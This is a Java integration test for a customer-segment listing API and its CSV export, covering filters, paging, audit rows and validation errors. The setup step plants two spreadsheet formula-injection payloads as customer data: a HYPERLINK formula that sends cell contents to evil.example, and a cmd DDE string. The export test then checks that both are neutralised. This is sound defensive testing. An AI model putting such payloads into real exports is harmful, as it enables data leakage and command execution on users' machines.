package io.junction.service.cases;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Segments of the customer base on the whole hub (docs/segments.md), over customers this test makes by their orders:
 * gold and at risk (an order 120 days ago) with and without marketing consent, gold and new, lead and at risk. The
 * database is shared, so the test asserts on its own customers' presence and absence, never on totals.
 */
class SegmentsTest extends ServiceHubTest {

    private static String atRiskOptedIn;
    private static String atRiskOptedOut;
    private static String goldNew;
    private static String leadAtRisk;
    private static String formulas;

    @BeforeEach
    void customers() {
        if (atRiskOptedIn != null) {
            return;
        }
        Shopper quoted = new Shopper(true);
        quoted.firstName = "Ann, \"the\" buyer";
        atRiskOptedIn = placed(quoted, GOLD, 120, "GOLD");
        atRiskOptedOut = placed(new Shopper(false), GOLD, 120, "GOLD");
        goldNew = placed(new Shopper(true), GOLD, 0, "GOLD");
        leadAtRisk = placed(new Shopper(true), LEAD, 120, "LEAD");
        // what a spreadsheet would run if the export passed it on as written (OWASP CSV injection)
        Shopper attacker = new Shopper(true);
        attacker.firstName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        attacker.email = "-2+3+cmd|'/c-calc'!a0-" + attacker.customerId.toLowerCase() + "@example.com";
        formulas = placed(attacker, GOLD, 120, "GOLD");
    }

    @Test
    void aSegmentIsListedPageByPageInAStableOrder() {
        List<String> members = walk("/api/customers?tier=GOLD&stage=AT_RISK&size=1");
        assertThat(members).contains(atRiskOptedIn, atRiskOptedOut).doesNotContain(goldNew, leadAtRisk);
        assertThat(members).isSorted().doesNotHaveDuplicates();

        JsonNode first = json(getAs(VIEWER, "/api/customers?tier=gold&stage=at-risk&page=0&size=200"));
        assertThat(first.path("segment").asText()).isEqualTo("tier=GOLD&stage=AT_RISK");
        assertThat(first.path("total").asLong()).isEqualTo(members.size());
        JsonNode mine = member(first, atRiskOptedIn);
        assertThat(mine.path("tier").asText()).isEqualTo("GOLD");
        assertThat(mine.path("stage").asText()).isEqualTo("AT_RISK");
        assertThat(mine.path("firstName").asText()).isEqualTo("Ann, \"the\" buyer");
        assertThat(mine.path("marketingOptIn").asBoolean()).isTrue();
        assertThat(mine.path("orderCount").asInt()).isEqualTo(1);

        // the filters combine: tiers and stages as lists, spend, the last order's date
        assertThat(all("/api/customers?tier=GOLD,LEAD&stage=AT_RISK"))
                .contains(atRiskOptedIn, leadAtRisk)
                .doesNotContain(goldNew);
        assertThat(all("/api/customers?stage=NEW&tier=GOLD")).contains(goldNew).doesNotContain(atRiskOptedIn);
        assertThat(all("/api/customers?tier=GOLD&minSpend=2930")).contains(atRiskOptedIn, goldNew);
        assertThat(all("/api/customers?tier=GOLD&minSpend=2930.01")).doesNotContain(atRiskOptedIn, goldNew);
        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        assertThat(all("/api/customers?tier=GOLD&lastOrderBefore=" + today.minusDays(100)))
                .contains(atRiskOptedIn)
                .doesNotContain(goldNew);
        assertThat(all("/api/customers?tier=GOLD&lastOrderBefore=" + today.minusDays(130)))
                .doesNotContain(atRiskOptedIn);

        // one audited read per page, with what it showed
        Map<String, Object> audit = jdbc.queryForMap(
                "select principal, customer_id, segment, row_count from customer_read_audit "
                        + "where lookup = 'segment' and segment = 'tier=GOLD&stage=AT_RISK' order by id desc fetch first 1 rows only");
        assertThat(audit.get("principal")).isEqualTo("viewer");
        assertThat(audit.get("customer_id")).isNull();
        assertThat(((Number) audit.get("row_count")).intValue()).isEqualTo(members.size());
    }

    @Test
    void theExportIsCsvOfTheSegmentsCustomersWhoOptedInToMarketing() {
        HttpResponse<String> response = getAs(VIEWER, "/api/customers/export.csv?tier=GOLD&stage=AT_RISK");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type"))
                .hasValueSatisfying(t -> assertThat(t).startsWith("text/csv"));
        assertThat(response.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"customers-tier-GOLD-stage-AT_RISK.csv\"");
        // streamed as it is read from the database, not buffered to learn its length first
        assertThat(response.headers().firstValue("Content-Length")).isEmpty();
        List<List<String>> rows = csv(response.body());
        assertThat(response.body())
                .startsWith(
                        "id,email,phone,first_name,last_name,preferred_channel,tier,stage,lifetime_value,order_count,"
                                + "last_order_at\r\n");
        assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(11));
        Map<String, List<String>> byId = new HashMap<>();
        rows.subList(1, rows.size()).forEach(row -> byId.put(row.get(0), row));
        assertThat(byId).containsKey(atRiskOptedIn).doesNotContainKeys(atRiskOptedOut, goldNew, leadAtRisk);
        List<String> mine = byId.get(atRiskOptedIn);
        assertThat(mine.get(3)).isEqualTo("Ann, \"the\" buyer");
        assertThat(response.body()).contains(",\"Ann, \"\"the\"\" buyer\",");
        assertThat(mine.subList(6, 10)).containsExactly("GOLD", "AT_RISK", "2930.0000", "1");
        // a value a spreadsheet would read as a formula starts with a quote, so it is shown as text, not run
        List<String> attacker = byId.get(formulas);
        assertThat(attacker.get(3)).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        assertThat(attacker.get(1)).startsWith("'-2+3+cmd|'/c-calc'!a0-");
        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row)
                .noneMatch(f -> f.matches("(?s)[=+\\-@\t\r].*") && !f.matches("[+-]?[0-9.]+")));
        // every row is an opted-in member of the segment
        assertThat(byId.keySet()).allSatisfy(id -> assertThat(
                        jdbc.queryForObject("select marketing_opt_in from customer where id = ?", Boolean.class, id))
                .isTrue());

        // audited as one read, with the number of customers sent once the export ended
        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(
                        jdbc.queryForMap(
                                "select principal, segment, row_count from customer_read_audit where lookup = 'export' order by id desc fetch first 1 rows only"))
                .containsEntry("principal", "viewer")
                .containsEntry("segment", "tier=GOLD&stage=AT_RISK")
                .containsEntry("row_count", byId.size()));
    }

    @Test
    void badSegmentsAreRefusedNamingTheParameterAndWhatItAllows() {
        assertBad("/api/customers?tier=DIAMOND", "tier", "[PLATINUM, GOLD, IRON, LEAD]");
        assertBad("/api/customers?tier=GOLD&stage=SLEEPING", "stage", "[NEW, ACTIVE, AT_RISK, LAPSED, WON_BACK]");
        assertBad("/api/customers/export.csv?stage=SLEEPING", "stage", "AT_RISK");
        assertBad("/api/customers?tier=GOLD&size=0", "size", "from 1 to 200");
        assertBad("/api/customers?tier=GOLD&size=201", "size", "from 1 to 200");
        assertBad("/api/customers?tier=GOLD&size=ten", "size", "from 1 to 200");
        assertBad("/api/customers?tier=GOLD&page=-1", "page", "from 0");
        assertBad("/api/customers?minSpend=lots", "minSpend", "decimal");
        assertBad("/api/customers?tier=GOLD&lastOrderBefore=yesterday", "lastOrderBefore", "date");
        assertBad("/api/customers?size=10", "tier|stage|minSpend|lastOrderBefore", "at least one");
        assertBad("/api/customers/export.csv", "tier|stage|minSpend|lastOrderBefore", "at least one");
        assertBad(
                "/api/customers?tier=GOLD&email=" + URLEncoder.encode("a@example.com", StandardCharsets.UTF_8),
                "email",
                "not with a segment");
        // the one-customer lookups are as they were
        assertBad("/api/customers", "email|phone|system+sourceId", "required");
        assertThat(getAs(null, "/api/customers?tier=GOLD").statusCode()).isEqualTo(401);
        assertThat(getAs(null, "/api/customers/export.csv?tier=GOLD").statusCode())
                .isEqualTo(401);
    }

    private String placed(Shopper shopper, java.math.BigDecimal value, int daysAgo, String tier) {
        assertThat(deliver(shopper.place(shopper.newOrderId(), value, daysAgo)).statusCode())
                .isEqualTo(202);
        return view(shopper, c -> tier.equals(c.path("tier").asText()))
                .path("id")
                .asText();
    }

    /** Every member id of a segment, following {@code next} from the first page. */
    private List<String> walk(String first) {
        List<String> ids = new ArrayList<>();
        String next = first;
        long total = -1;
        for (int pages = 0; next != null; pages++) {
            assertThat(pages).as("pages").isLessThan(1000);
            JsonNode page = json(getAs(VIEWER, next));
            assertThat(page.path("page").asInt()).isEqualTo(pages);
            total = page.path("total").asLong();
            page.path("items").forEach(item -> ids.add(item.path("id").asText()));
            next = page.path("next").isMissingNode() ? null : page.path("next").asText();
        }
        assertThat(ids).hasSize((int) total);
        return ids;
    }

    private List<String> all(String query) {
        return walk(query + "&size=200");
    }

    private static JsonNode member(JsonNode page, String id) {
        for (JsonNode item : page.path("items")) {
            if (item.path("id").asText().equals(id)) {
                return item;
            }
        }
        throw new AssertionError(id + " not on " + page);
    }

    private void assertBad(String path, String parameter, String allowed) {
        HttpResponse<String> response = getAs(VIEWER, path);
        assertThat(response.statusCode()).as(path + ": " + response.body()).isEqualTo(400);
        assertThat(response.headers().firstValue("Content-Type"))
                .hasValueSatisfying(t -> assertThat(t).startsWith("application/problem+json"));
        JsonNode problem = json(response);
        assertThat(problem.path("errors").findValuesAsText("field")).as(path).contains(parameter);
        assertThat(problem.path("errors").findValuesAsText("problem")).as(path).anyMatch(p -> p.contains(allowed));
    }

    /** RFC 4180 read strictly: quoted fields with doubled quotes, CRLF between records. */
    private static List<List<String>> csv(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 0;
        while (i < text.length()) {
            char ch = text.charAt(i);
            if (ch == '"' && field.isEmpty()) {
                // a quoted field: up to the quote not followed by another; a doubled quote is one quote
                for (i++; text.charAt(i) != '"' || (i + 1 < text.length() && text.charAt(i + 1) == '"'); i++) {
                    field.append(text.charAt(i));
                    i += text.charAt(i) == '"' ? 1 : 0;
                }
                i++;
                continue;
            }
            if (ch == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (ch == '\r') {
                assertThat(text.charAt(i + 1)).as("CRLF").isEqualTo('\n');
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(ch);
            }
            i++;
        }
        assertThat(row).as("the last record ends with CRLF").isEmpty();
        return rows;
    }
}
